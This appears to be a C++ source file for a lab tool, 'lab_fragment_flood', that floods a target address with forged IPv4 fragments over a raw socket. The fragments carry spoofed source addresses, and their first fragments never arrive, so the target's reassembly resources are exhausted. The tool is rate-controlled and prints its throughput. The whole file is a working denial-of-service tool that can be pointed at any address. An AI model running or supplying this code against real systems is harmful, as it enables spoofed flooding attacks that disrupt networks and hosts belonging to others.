// lab_fragment_flood TO FROM SOURCES RATE COUNT: sends COUNT later fragments of 28 octets, the smallest there
// are, to the address TO, whose first fragments never come. They are from SOURCES addresses, FROM and those
// behind it, in turn; a hundred make a datagram. At most RATE a second, and what it is late with for want of
// the processor it does not make up for. Prints how many a second it came to.
#include <algorithm>
#include <array>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <thread>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <sys/socket.h>

namespace {

constexpr std::uint64_t kBatch = 64, kPieces = 100;
constexpr std::size_t kData = 8;

struct Fragment {
  iphdr header{};
  std::array<char, kData> data{};
};
static_assert(sizeof(Fragment) == 28);

Fragment fragment_of(std::uint64_t number, in_addr to, std::uint32_t from, std::uint64_t sources) {
  const std::uint64_t own = number / sources;  // so many of this source came before
  Fragment fragment;
  fragment.header.version = 4;
  fragment.header.ihl = 5;
  fragment.header.tot_len = htons(sizeof fragment);
  fragment.header.id = htons(static_cast<std::uint16_t>(own / kPieces));
  fragment.header.frag_off = htons(static_cast<std::uint16_t>(IP_MF | (10 + own % kPieces)));
  fragment.header.ttl = 64;
  fragment.header.protocol = IPPROTO_UDP;
  fragment.header.saddr = htonl(from + static_cast<std::uint32_t>(number % sources));
  fragment.header.daddr = to.s_addr;
  return fragment;
}

}  // namespace

int main(int argc, char** argv) {
  sockaddr_in to{};
  to.sin_family = AF_INET;
  in_addr from{};
  if (argc != 6 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
      inet_pton(AF_INET, argv[2], &from) != 1) {
    std::fputs("usage: lab_fragment_flood TO FROM SOURCES RATE COUNT\n", stderr);
    return 2;
  }
  const std::uint64_t sources = std::max(1UL, std::strtoul(argv[3], nullptr, 10));
  const double rate = std::atof(argv[4]);
  const std::uint64_t count = std::strtoul(argv[5], nullptr, 10);
  const int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) {
    std::perror("lab_fragment_flood");
    return 1;
  }

  std::array<Fragment, kBatch> fragments;
  std::array<iovec, kBatch> parts{};
  std::array<mmsghdr, kBatch> batch{};
  for (std::size_t i = 0; i < kBatch; ++i) {
    parts[i] = {&fragments[i], sizeof fragments[i]};
    batch[i].msg_hdr.msg_iov = &parts[i];
    batch[i].msg_hdr.msg_iovlen = 1;
    batch[i].msg_hdr.msg_name = &to;
    batch[i].msg_hdr.msg_namelen = sizeof to;
  }
  using Clock = std::chrono::steady_clock;
  const auto begin = Clock::now();
  auto since = begin;  // nothing is owed from before
  std::uint64_t sent = 0, owed_to = 0;
  while (sent < count) {
    const auto now = Clock::now();
    const double due =
        std::chrono::duration<double>(now - since).count() * rate - static_cast<double>(owed_to);
    const auto number = std::min({static_cast<std::uint64_t>(std::max(0.0, due)), kBatch, count - sent});
    if (due > 4 * kBatch) {
      since = now;
      owed_to = 0;
    }
    if (number == 0) {
      std::this_thread::sleep_for(std::chrono::microseconds(200));
      continue;
    }
    for (std::uint64_t i = 0; i < number; ++i) {
      fragments[i] = fragment_of(sent + i, to.sin_addr, ntohl(from.s_addr), sources);
    }
    const int gone = sendmmsg(raw, batch.data(), static_cast<unsigned>(number), 0);
    if (gone < 0) {
      std::perror("lab_fragment_flood");
      return 1;
    }
    sent += static_cast<std::uint64_t>(gone);
    owed_to += static_cast<std::uint64_t>(gone);
  }
  const double seconds = std::chrono::duration<double>(Clock::now() - begin).count();
  std::printf("%.0f fragments a second\n", static_cast<double>(sent) / seconds);
}
